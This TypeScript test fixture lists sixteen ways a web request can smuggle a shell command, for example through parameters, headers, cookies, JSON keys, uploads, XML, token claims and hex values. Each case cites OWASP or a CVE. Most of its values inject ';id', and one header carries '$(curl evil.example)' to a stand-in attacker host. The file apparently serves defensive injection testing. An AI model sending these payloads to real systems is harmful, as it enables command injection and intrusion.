import { commandCases, posix, program, type CommandCase } from '../../case-calls.ts';
import { bearer, form, text, toHex, upload, xml } from '../../case-requests.ts';

/** The ways in which a request carries an attack to a command. */
export const carriers: readonly CommandCase[] = commandCases('attack', [
  [
    'the last of two parameters of one name',
    { query: { host: ['a.example', 'a.example;id'] } },
    posix('ping -c1 a.example;id'),
    'HTTP parameter pollution, OWASP WSTG-INPV-04',
  ],
  [
    'a command split over an array',
    { body: { args: ['-l;', 'id'] } },
    posix('ls -l; id'),
    'arrays joined by a blank',
  ],
  [
    'a header kept in a log by a shell',
    { headers: { 'user-agent': '$(curl evil.example)' } },
    posix('echo "$(curl evil.example)" >> access.log'),
    'CVE-2014-6271, Shellshock: headers reach a shell',
  ],
  [
    'a language cookie',
    { cookies: { lang: 'de`id`' } },
    posix('gettext -d app de`id`'),
    'OWASP WSTG-INPV-12',
  ],
  [
    'a value deep in a JSON document',
    { body: { job: { target: { host: 'x|id' } } } },
    posix('nmap x|id'),
    'CVE-2021-21315, systeminformation: values of another shape pass a check',
  ],
  [
    'a key of a JSON object',
    { body: { 'a;id': true } },
    posix('kill -a;id 7'),
    'flags made of keys',
  ],
  [
    'a form that the app parses itself',
    form('to=a%40b.example%3Bid&ok=1'),
    posix('mail a@b.example;id'),
    'OWASP WSTG-INPV-12',
  ],
  [
    'a line of a text body',
    text('a.example\nb.example&id\n'),
    posix('host b.example&id'),
    'lists of hosts, OWASP WSTG-INPV-12',
  ],
  [
    'a JSON text that no parser read',
    text('{"file":"x;id"}', 'application/json'),
    posix('cat x;id'),
    'bodies read raw',
  ],
  [
    'a file name of an upload',
    upload({ fileName: 'x$(id).png' }),
    posix('convert uploads/x$(id).png out.jpg'),
    'OWASP File Upload Cheat Sheet, file names',
  ],
  [
    'a field name of an upload',
    upload({ name: 'x;id' }),
    posix('mkdir /srv/x;id'),
    'OWASP File Upload Cheat Sheet',
  ],
  [
    'the content of an uploaded list',
    upload({ content: 'a.example;id' }),
    posix('ping -c1 a.example;id'),
    'OWASP File Upload Cheat Sheet',
  ],
  [
    'an element of an XML document',
    xml('<job><repo>x;id</repo></job>'),
    posix('git fetch x;id'),
    'build servers that take a repository from XML',
  ],
  [
    'a claim of an unsigned token',
    bearer({ tenant: 'x;id' }),
    posix('backup x;id'),
    'OWASP JSON Web Token Cheat Sheet',
  ],
  [
    'a value in hexadecimal digits',
    { query: { q: toHex('x;id -a') } },
    posix('echo x;id -a'),
    'decoded by the app',
  ],
  [
    'a code argument of an interpreter',
    { body: { e: 'a");process.exit("' } },
    program('node', '--eval=f("a");process.exit("")'),
    'Node.js, command-line options',
  ],
]);
